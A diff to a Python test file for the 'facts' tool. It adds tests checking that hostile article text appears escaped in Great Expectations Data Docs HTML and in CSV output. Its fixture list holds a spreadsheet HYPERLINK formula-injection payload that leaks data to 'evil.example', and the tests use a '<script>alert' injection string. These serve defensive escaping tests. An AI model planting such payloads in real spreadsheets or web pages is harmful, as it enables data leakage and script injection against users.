@@ -5,19 +5,32 @@ files get an ordinary mode."""
 import csv
 import json
 import os
+import shutil
 import stat
 import xml.etree.ElementTree as ET
+from html.parser import HTMLParser
+from pathlib import Path
 
 import pandas as pd
 import pytest
 from click.testing import CliRunner
+from conftest import CHROMIUM, chromium_dom
 from hypothesis import given, settings
 from hypothesis import strategies as st
 from openpyxl import Workbook, load_workbook
 
 from facts.cli import cli
 from facts.render.junit import _document
-from facts.render.safe import FORMULA_STARTS, csv_cell, formula_like, secure_workbook, terminal_text, xml_row, xml_text
+from facts.render.safe import (
+    FORMULA_STARTS,
+    csv_cell,
+    csv_text,
+    formula_like,
+    secure_workbook,
+    terminal_text,
+    xml_row,
+    xml_text,
+)
 
 HOSTILE = [
     '=HYPERLINK("http://evil.example/?leak","Click for details")',
@@ -126,6 +139,63 @@ def test_html_escapes_every_field(hostile, tmp_path):
     assert "javascript:" not in html.lower()
 
 
+class _Markup(HTMLParser):
+    """The elements, attributes and text an HTML page is made of, as a browser parses it."""
+
+    def __init__(self):
+        super().__init__()
+        self.tags, self.scripts, self.text, self._in_script = [], [], [], False
+
+    def handle_starttag(self, tag, attrs):
+        self.tags.append((tag, dict(attrs)))
+        self._in_script = tag == "script"
+
+    def handle_endtag(self, tag):
+        self._in_script = False
+
+    def handle_data(self, data):
+        (self.scripts if self._in_script else self.text).append(data)
+
+
+@pytest.fixture(scope="module")
+def data_docs(hostile, tmp_path_factory):
+    """`check --gx-context` on the hostile articles with suites that flag every title, outlet,
+    sentence and document id, so that each reaches Data Docs as an unexpected value."""
+    folder = tmp_path_factory.mktemp("gxdocs")
+    suites = folder / "suites"
+    shutil.copytree(Path(__file__).resolve().parent.parent / "expectations", suites)
+    spec = json.loads((suites / "facts_table.json").read_text())
+    spec["expectations"] += [{"type": "expect_column_values_to_be_in_set", "kwargs": {"column": c, "value_set": ["-"]},
+                              "meta": {"severity": "warning"}} for c in ("title", "source", "sentence", "doc_id")]
+    (suites / "facts_table.json").write_text(json.dumps(spec))
+    run("check", str(hostile), "--suites", str(suites), "--gx-context", str(folder / "ctx"), "-q")
+    pages = sorted((folder / "ctx" / "gx" / "uncommitted" / "data_docs").rglob("facts-facts.html"))
+    assert len(pages) == 1
+    return pages[0]
+
+
+def test_data_docs_show_article_text_as_text(data_docs):
+    """GX 1.x writes unexpected values into Data Docs as they are: facts escapes them first, so
+    that a `<script>` in an article is text on the page, never an element."""
+    page = _Markup()
+    page.feed(data_docs.read_text(encoding="utf-8"))
+    text = "".join(page.text)
+    assert "<script>alert('x')</script>" in text  # shown, as text
+    assert not any("alert('x')" in script for script in page.scripts)
+    handlers = {value for _, attrs in page.tags for name, value in attrs.items() if name.startswith("on")}
+    assert handlers <= {"showAllValidations()", "hideSucceededValidations()"}  # GX's own buttons only
+    assert not any("evil.example" in str(value) for _, attrs in page.tags for value in attrs.values())
+    assert all(attrs.get("src", "").startswith("https://") for tag, attrs in page.tags if tag in ("script", "img")
+               and attrs.get("src"))
+
+
+@pytest.mark.skipif(not CHROMIUM, reason="Chromium (Debian package chromium) not installed")
+def test_data_docs_run_no_article_script_in_chromium(data_docs, tmp_path):
+    dom = chromium_dom(data_docs.resolve().as_uri(), tmp_path / "p")
+    assert "Unsuccessful Expectations" in dom
+    assert "&lt;script&gt;alert('x')&lt;/script&gt;" in dom and "<script>alert('x')" not in dom
+
+
 def test_github_lines_are_only_our_commands(hostile):
     result = run("check", str(hostile), "--format", "github")
     lines = result.stdout.splitlines()
@@ -149,6 +219,7 @@ def test_terminal_report_holds_no_escape_sequence_or_markup(hostile):
 def test_no_text_becomes_a_formula_or_bad_xml(text):
     assert not formula_like(csv_cell(text)) or not text
     assert csv_cell(text).lstrip("'") == text.lstrip("'") or csv_cell(text) == "'" + text
+    assert csv_text(csv_cell(text)) == text or (text.startswith("'") and formula_like(text[1:]))
     clean = xml_text(text)
     assert not any(ord(c) < 32 and c not in "\t\n\r" for c in clean)
     assert not any(c in clean for c in "\x1b\x07") and not any(c in terminal_text(text) for c in "\x1b\x07\x00")
@@ -205,9 +276,9 @@ def _huge(text):
 
 
 @pytest.mark.parametrize("name,mutate,expected", [
-    ("NaN", lambda t: t.replace('"max_value": 0.05', '"max_value": NaN', 1), "kwargs.max_value: NaN is not a finite"),
-    ("Infinity", lambda t: t.replace('"max_value": 0.05', '"max_value": Infinity', 1), "Infinity is not a finite"),
-    ("1e999", lambda t: t.replace('"max_value": 0.05', '"max_value": 1e999', 1), "Infinity is not a finite"),
+    ("NaN", lambda t: t.replace('"max_value": 0', '"max_value": NaN', 1), "kwargs.max_value: NaN is not a finite"),
+    ("Infinity", lambda t: t.replace('"max_value": 0', '"max_value": Infinity', 1), "Infinity is not a finite"),
+    ("1e999", lambda t: t.replace('"max_value": 0', '"max_value": 1e999', 1), "Infinity is not a finite"),
     ("deep", _deep, "nested more than"),
     ("huge", _huge, "a string of 10,000,000 characters"),
 ])
